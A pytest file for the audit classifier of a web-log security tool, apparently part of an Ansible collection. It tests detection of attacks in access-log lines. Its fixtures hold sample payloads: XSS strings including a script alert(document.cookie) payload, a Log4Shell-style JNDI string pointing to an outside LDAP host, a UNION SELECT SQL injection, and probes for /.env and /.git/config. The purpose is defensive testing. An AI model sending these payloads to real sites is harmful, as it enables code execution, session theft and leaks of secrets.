"""The classifier inside the audit: evidence per incident, the site's learned normal paths, the
parameter allowlist, and the second-opinion hook (any callable; the real CRS stage is tested with
crs.py)."""

from ansible_collections.sitekeeper.website.plugins.module_utils.audit.parser import audit
from ansible_collections.sitekeeper.website.plugins.module_utils.audit.sites import normalise_site

UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0 Safari/537.36"


def line(ip, path, status=200, agent=UA, second=0):
    return '%s - - [27/Nov/2026:10:00:%02d +0700] "GET %s HTTP/1.1" %d 512 "-" "%s"\n' % (
        ip, second, path, status, agent)


def run(tmp_path, text, **kw):
    path = tmp_path / "access.log"
    path.write_text(text, encoding="utf-8")
    kw.setdefault("second_opinion", False)
    return audit([str(path)], **kw)


def by_client(result):
    return {i["client"]: i for i in result["incidents"]}


def test_incident_names_rules_parts_and_both_excerpts(tmp_path):
    res = run(tmp_path, line("198.51.100.9", "/cari?q=%22%3E%3Csvg%2Fonload%3Dalert(1)%3E"))
    inc = by_client(res)["198.51.100.9"]
    assert inc["detections"] == ["xss"] and inc["count"] == 1
    rules = {r["rule"]: r for r in inc["rules"]}
    assert "xss_active_tag" in rules and "xss_event_handler" in rules
    tag = rules["xss_active_tag"]
    assert tag["part"] == "arg:q" and tag["raw"].startswith("%22%3E%3Csvg")
    assert tag["decoded"].startswith('"><svg/onload=alert(1)>')


def test_payload_in_agent_is_an_incident(tmp_path):
    res = run(tmp_path, line("198.51.100.10", "/", agent="${jndi:ldap://198.51.100.7:1389/a}"))
    assert "java_injection" in by_client(res)["198.51.100.10"]["detections"]


def test_moderate_parameter_hits_on_a_path_many_clients_use_are_learned_as_normal(tmp_path):
    # An app whose "html" parameter carries a little markup, used by 12 different visitors
    text = "".join(line("192.0.2.%d" % i, "/editor/preview?html=%3Cb%3Ehi%3C%2Fb%3E%3Cbr%3E%3Cimg%20src%3Dx.png%3E")
                   for i in range(1, 13))
    # ... and a real attack on the same path, a strong payload
    text += line("203.0.113.50", "/editor/preview?html=%3Cscript%3Ealert(document.cookie)%3C/script%3E")
    res = run(tmp_path, text)
    found = by_client(res)
    assert set(found) == {"203.0.113.50"}
    assert res["summary"]["learned_normal_paths"] == [{"path": "/editor/preview", "hits_ignored": 12}]
    # Never learning: every visitor is reported
    res = run(tmp_path, text, thresholds={"normal_path_clients": 0})
    assert len(res["incidents"]) == 13 and "learned_normal_paths" not in res["summary"]


def test_few_clients_or_error_answers_are_not_learned(tmp_path):
    text = "".join(line("192.0.2.%d" % i, "/p?html=%3Cimg%20src%3Dx%3E") for i in range(1, 4))
    text += "".join(line("192.0.2.%d" % i, "/q?html=%3Cimg%20src%3Dx%3E", status=404) for i in range(10, 25))
    res = run(tmp_path, text)
    assert len(res["incidents"]) == 3 + 15
    # the path itself is never weighed down: /.env answered 200 to 20 clients stays 20 probes
    res = run(tmp_path, "".join(line("192.0.2.%d" % i, "/.env") + line("192.0.2.%d" % i, "/.git/config")
                                for i in range(1, 21)))
    assert len(res["incidents"]) == 20


def test_allow_params_per_site(tmp_path):
    text = line("192.0.2.7", "/post?body=%3Cp%3EHalo%3C%2Fp%3E%3Cimg%20src%3Dx.png%3E") + line(
        "192.0.2.8", "/post?title=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E")
    assert set(by_client(run(tmp_path, text))) == {"192.0.2.7", "192.0.2.8"}
    assert set(by_client(run(tmp_path, text, allow_params=["body"]))) == {"192.0.2.8"}
    assert normalise_site({"name": "a", "audit_allow_params": "body"})["allow_params"] == ["body"]
    assert normalise_site({"name": "a", "second_opinion": "no"})["second_opinion"] is False


def test_second_opinion_confirms_near_misses_and_adds_rules(tmp_path):
    asked = []

    def opinion(requests):
        asked.append(list(requests))
        verdicts = {r: ["sqli", 942100] for r in requests if b"substr" in r[0] or b"union" in r[0]}
        return verdicts, {"requests": len(requests), "seconds": 0.0}

    text = line("192.0.2.1", "/foo?a=substr%28") + line("192.0.2.2", "/foo?id=1%20union%20select%201,2--")
    text += line("192.0.2.3", "/berita/1")
    res = run(tmp_path, text, second_opinion=opinion)
    # each distinct request is sent with its user agent and referer (the CRS reads the headers too)
    ua = UA.encode()
    assert len(asked) == 1 and sorted(asked[0]) == [(b"GET /foo?a=substr%28 HTTP/1.1", ua, b"-"),
                                                    (b"GET /foo?id=1%20union%20select%201,2-- HTTP/1.1", ua, b"-")]
    found = by_client(res)
    assert set(found) == {"192.0.2.1", "192.0.2.2"}
    assert found["192.0.2.1"]["detections"] == ["sqli"]
    assert found["192.0.2.1"]["rules"][0]["rule"] == "second_opinion"
    assert found["192.0.2.2"]["second_opinion"] == [942100]
    stats = res["summary"]["second_opinion"]
    assert stats["near_misses_sent"] == 1 and stats["near_misses_confirmed"] == 1
    # without a second opinion the near miss stays below the threshold
    assert set(by_client(run(tmp_path, text))) == {"192.0.2.2"}


def test_a_failing_second_opinion_never_breaks_the_audit(tmp_path):
    def broken(requests):
        raise RuntimeError("engine crashed")

    res = run(tmp_path, line("192.0.2.2", "/foo?id=1%20union%20select%201,2--"), second_opinion=broken)
    assert [i["client"] for i in res["incidents"]] == ["192.0.2.2"]
    assert "engine crashed" in res["summary"]["second_opinion"]["error"]


def test_absolute_uri_is_a_proxy_probe_only_for_another_host(tmp_path):
    def abs_line(ip, target, ref):
        return '%s - - [27/Nov/2026:10:00:00 +0700] "GET %s HTTP/1.1" 200 512 "%s" "%s"\n' % (ip, target, ref, UA)

    # the site's pages refer to each other: its own host is www.pn-contoh.go.id (a search engine's
    # referer does not make its host the site's)
    text = "".join(abs_line("192.0.2.%d" % i, "/berita/%d" % i, "https://www.pn-contoh.go.id/berita/%d" % (i % 5))
                   for i in range(1, 30))
    text += "".join(abs_line("192.0.2.%d" % i, "/", "https://www.google.com/") for i in range(100, 130))
    text += abs_line("198.51.100.79", "http://www.google.com/", "-")
    text += abs_line("192.0.2.50", "http://www.pn-contoh.go.id/berita/1", "https://www.pn-contoh.go.id/")
    text += abs_line("198.51.100.77", "http://www.example-shop.test/", "-")
    found = by_client(run(tmp_path, text))
    assert set(found) == {"198.51.100.77", "198.51.100.79"}
    assert found["198.51.100.77"]["detections"] == ["protocol_abuse"]
    assert found["198.51.100.77"]["rules"][0]["rule"] == "protocol_proxy_request"
    # CONNECT and absolute URIs with a port or an address are probes whatever the site's hosts
    text += abs_line("198.51.100.78", "http://198.51.100.1:8080/", "-")
    assert "protocol_abuse" in by_client(run(tmp_path, text))["198.51.100.78"]["detections"]


def test_the_demo_planted_attacks_are_found_and_nothing_else(tmp_path):
    from ansible_collections.sitekeeper.website.plugins.module_utils.demo import traffic

    res = run(tmp_path, "\n".join(traffic.generate()) + "\n")
    found = {i["client"]: set(i["detections"]) for i in res["incidents"]}
    assert set(found) == {"203.0.113.66", "198.51.100.23", "192.0.2.77"}
    assert {"sqli", "xss", "path_traversal", "scanner_agent"} <= found["203.0.113.66"]
    assert {"sensitive_file", "exploit_probe", "webshell", "probing_404"} <= found["198.51.100.23"]
    assert found["192.0.2.77"] == {"brute_force"}
